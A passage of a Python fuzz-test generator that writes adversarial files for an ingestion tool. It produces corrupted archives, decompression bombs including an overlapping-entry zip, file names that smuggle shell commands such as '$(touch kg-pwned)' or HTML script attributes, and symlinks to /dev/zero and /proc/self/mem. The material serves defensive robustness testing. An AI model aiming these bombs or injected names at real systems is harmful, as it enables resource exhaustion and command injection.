            b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0"
        ),
    )
    yield "method.zip", twice.replace(b"\x08\0", b"\x0e\0")
    yield "hidden.zip", zipped([(".a.txt", b"x"), ("__MACOSX/a.txt", b"x")])
    yield "empty.zip", zipped([])
    yield "empty.tar", tarred([])
    yield "negative.tar", tarred([("a.txt", story(203).encode())]).replace(b"00000000", b"\xff\xff\xff\xff\xff\xff\xff\x00", 1)
    size = bytearray(tarred([("a.txt", story(204).encode())]))
    size[124:136] = struct.pack(">Bxxxq", 0xFF, -512)
    yield "backwards.tar", bytes(size)
    long = tarred([("a" * 300 + ".txt", story(205).encode())])
    yield "pax.tar", long.replace(b"path=", b"size=", 1)
    for number in range(40):
        packed = (
            whole,
            tarred([("a.txt", story(number + 300).encode())]),
            gzip.compress(story(number + 400).encode()),
            bz2.compress(story(number + 500).encode()),
        )[number % 4]
        yield f"d{number}.{('zip', 'tar', 'txt.gz', 'txt.bz2')[number % 4]}", damaged(source, packed)


def bombs(source: random.Random) -> Files:
    """Archives that would grow beyond all measure."""
    del source
    zeros = b"\0" * 120_000_000
    small = zipped([("a.txt", b" " * 10_000_000)])
    yield "a.txt.gz", gzip.compress(zeros)
    yield "b.jsonl.gz", gzip.compress(b" " * 120_000_000)
    yield "c.csv.bz2", bz2.compress(zeros)
    yield "d.tar.gz", gzip.compress(tarred([("a.csv", zeros)]))
    yield "e.zip", zipped([("a.jsonl", zeros)])
    yield "f.zip", zipped((f"{n}.txt", b" " * 4_000_000) for n in range(40))
    yield "g.zip", zipped((f"{n}.zip", small) for n in range(30))
    yield "h.html.gz", gzip.compress(b"<p>" * 40_000_000)
    yield "i.warc.gz", gzip.compress(zeros)
    yield "j.rss.gz", gzip.compress(b"<rss><channel>" + b"<item/>" * 15_000_000)
    yield "k.gz", gzip.compress(gzip.compress(zeros))
    deep = zipped([("a.txt", story(1).encode())])
    for _ in range(20):
        deep = zipped([("a.zip", deep)])
    yield "l.zip", deep
    yield "m.zip", _overlapping()
    yield "n.zip", zipped((f"{n}.txt", b"x") for n in range(20_000))


def _overlapping() -> bytes:
    """Return a zip archive of which a thousand files share the same packed bytes."""
    one = zipped([("a.txt", b" " * 4_000_000)])
    at = one.index(b"PK\x01\x02")
    entry, end = one[at : one.index(b"PK\x05\x06")], one[one.index(b"PK\x05\x06") :]
    return one[:at] + entry * 1000 + end[:8] + struct.pack("<HHLL", 1000, 1000, len(entry) * 1000, at) + end[20:]


def file_names(source: random.Random) -> Files:
    del source
    names = (
        *(
            "\x1b[31mred.txt",
            "\u202etxt.exe.txt",
            "a\nb.txt",
            "a\rb.txt",
            "a\tb.txt",
            " .txt",
            "-o x.txt",
            "--output.txt",
            "$(touch kg-pwned).txt",
            "`touch kg-pwned`.txt",
            "a;touch kg-pwned;.txt",
        ),
        *(
            "a|b.txt",
            "a&b.txt",
            "'\".txt",
            "<img src=x onerror=x>.txt",
            "%00.txt",
            "%2e%2e%2f.txt",
            "..txt",
            "...txt",
            "a..txt",
            "A.TXT",
            "a.txt.txt",
            "a.html.txt",
            "\udcff\udcfe.txt",
            "\udce9t\udce9.jsonl",
        ),
        *(
            "é.txt",
            "e\u0301.txt",
            "👩\u200d👩.txt",
            "\u200b.txt",
            "\ufeff.txt",
            "x" * 251 + ".txt",
            "no suffix",
            "a.",
            "a.docx",
            "a.txt~",
            "#a#.txt",
            "*.txt",
            "?.txt",
            "[a].txt",
            "{a,b}.txt",
            "~.txt",
        ),
        *(
            "s3:.txt",
            "http:.txt",
            "file:.txt",
            "con.txt",
            "nul.txt",
            "a:b.txt",
            "\\\\a.txt",
            "C:\\a.txt",
            "a\x7fb.txt",
            "a\x85b.txt",
            "\u2028.txt",
            "a!b.zip!c.txt",
            "@a.txt",
            "=1.txt",
            "a,b.txt",
            "a\x01.txt",
        ),
    )
    for number, name in enumerate(names):
        yield name, line(id=f"name {number}", text=story(number)) if name.endswith("jsonl") else story(number).encode()


def languages(source: random.Random) -> Files:
    del source
    texts = {
        "de": "Bei einem Anschlag auf einen Markt in der Hauptstadt sind am Freitag nach Angaben der Polizei mindestens zwölf Menschen getötet worden.",
        "fr": "Au moins douze personnes ont été tuées vendredi dans un attentat contre un marché de la capitale, a annoncé la police locale.",
        "es": "Al menos doce personas murieron el viernes en un atentado contra un mercado de la capital, según informó la policía local.",
        "ru": "По меньшей мере двенадцать человек погибли в пятницу в результате нападения на рынок в столице, сообщила местная полиция.",
        "ar": "قتل اثنا عشر شخصا على الأقل يوم الجمعة في هجوم على سوق في العاصمة، حسبما أعلنت الشرطة المحلية في بيان صحفي.",
        "zh": "当地警方表示，星期五首都一个市场遭到袭击，至少有十二人死亡，数十人受伤，目前没有任何组织声称对此负责，调查仍在继续进行之中，官员们呼吁民众保持冷静并避免前往该地区。",
        "tr": "Yerel polis, cuma günü başkentte bir pazara düzenlenen saldırıda en az on iki kişinin öldüğünü ve onlarca kişinin yaralandığını açıkladı.",
        "sw": "Watu wasiopungua kumi na wawili waliuawa siku ya Ijumaa katika shambulio dhidi ya soko katika mji mkuu, polisi walisema.",
    }
    for code, text in texts.items():
        yield f"{code}.txt", text.encode()
        yield f"{code}.jsonl", line(id=f"said to be English {code}", text=text + " ", language="en")
        yield f"mixed-{code}.txt", f"{story(len(code))}\n\n{text}".encode()


# ---------------------------------------------------------------- what takes long


def long_texts(source: random.Random) -> Files:
    """Texts of up to five million characters, words of a million, ten thousand sentences without a full stop."""
    sentences = [
        " ".join(f"the {who} attacked {where} on friday and killed {n} people" for n in range(4))
        for who in ("rebels", "army")
        for where in ("kabul", "herat")
    ]
    yield "no-stops.txt", "\n".join(source.choice(sentences) for _ in range(10_000)).encode()
    yield "one-line.txt", " ".join(source.choice(sentences) for _ in range(10_000))[:500_000].encode()
    yield "word.txt", b"a" * 1_000_000
    yield "story-word.txt", (story(1) + "a" * 1_000_000).encode()
    yield "spaces.txt", (story(2) + " " * 4_900_000 + "killed 12.").encode()
    yield "lines.txt", (story(3) + "\n" * 4_900_000 + "x").encode()
    yield "stops.txt", (story(4) + "." * 1_000_000).encode()
    yield "digits.txt", (story(5) + "killed " + "9" * 1_000_000 + " down from " + "9" * 1_000_000).encode()
    yield "too-long.txt", b"a b " * 1_300_000
    yield "five-million.txt", "".join(story(n) for n in range(30_000))[:4_990_000].encode()


CLASSES: Final[Mapping[str, Make]] = {
    "encodings": encodings,
    "bidi and unseen characters": unseen_characters,
    "halves of surrogate pairs": surrogates,
    "texts of one character": shortest,
    "control characters": controls,
    "odd letters": odd_letters,
    "numbers and times": numbers,
    "long runs": long_runs,
    "scripts in fields": scripts_in_fields,
    "scripts in text": scripts_in_text,
    "scripts in pages and Markdown": scripts_in_pages,
    "SPARQL and IRIs": queries_in_fields,
    "formulas": formulas,
    "templates, shells and paths": templates_and_paths,
    "broken tables": broken_tables,
    "broken JSON": broken_lines,
    "dates": dates,
    "page bombs": page_bombs,
    "entities and feeds": entities_and_feeds,
    "Markdown": markdown,
    "PDF": pdfs,
    "Parquet": parquet,
    "web archives": web_archives,
    "random bytes": random_bytes,
    "archives": archives,
    "names of files": file_names,
    "other languages": languages,
}
"""What is tried, by class."""
LONG: Final[Mapping[str, Make]] = {"bombs": bombs, "long texts": long_texts}
"""What takes minutes."""
LINKS: Final = "links, devices and deep folders"
"""The class that is no files; `write_links` makes it."""


def write_class(folder: Path, make: Make, *, seed: int, every: int = 1) -> list[Path]:
    """Write the files of a class, or each so many-th of them, and return their paths; a file that no file system takes is left out."""
    folder.mkdir(parents=True)
    paths = []
    for number, (name, content) in enumerate(make(random.Random(seed))):  # noqa: S311 - bytes, no secret
        if number % every == 0:
            paths.append(folder / name)
            with paths[-1].open("xb") as file:
                file.write(content)
    return paths


def write_links(folder: Path) -> list[Path]:
    """Make what folders hold beside files: links, pipes, devices, sockets, folders without end; return the paths that must be told or read."""
    folder.mkdir(parents=True)
    for name, target in (
        ("nowhere.txt", "gone"),
        ("loop.txt", "loop.txt"),
        ("zero.txt", "/dev/zero"),
        ("full.txt", "/dev/full"),
        ("self.jsonl", "/proc/self/mem"),
    ):
        (folder / name).symlink_to(target)
    for name, place in (("up.txt", Path("..")), ("folder.txt", folder)):
        (folder / name).symlink_to(place, target_is_directory=True)
    os.mkfifo(folder / "pipe.txt")
    (folder / "empty").mkdir()
    (folder / "folder.html").mkdir()
    (folder / "folder.html" / "a.txt").write_text(story(1), encoding="utf-8")
    for depth in (100, 1500):
        deepest = _deep_folder(folder / f"deep{depth}", depth)
        with open(f"{deepest}/a.txt", "x", encoding="utf-8") as file:  # noqa: PTH123 - pathlib would take the path apart again and again
            file.write(story(depth))
    return sorted(folder.iterdir())


def _deep_folder(folder: Path, depth: int) -> str:
    path = str(folder)
    for _ in range(depth):
        os.mkdir(path)  # noqa: PTH102 - see above
        path += "/d"
    os.mkdir(path)  # noqa: PTH102 - see above
    return path
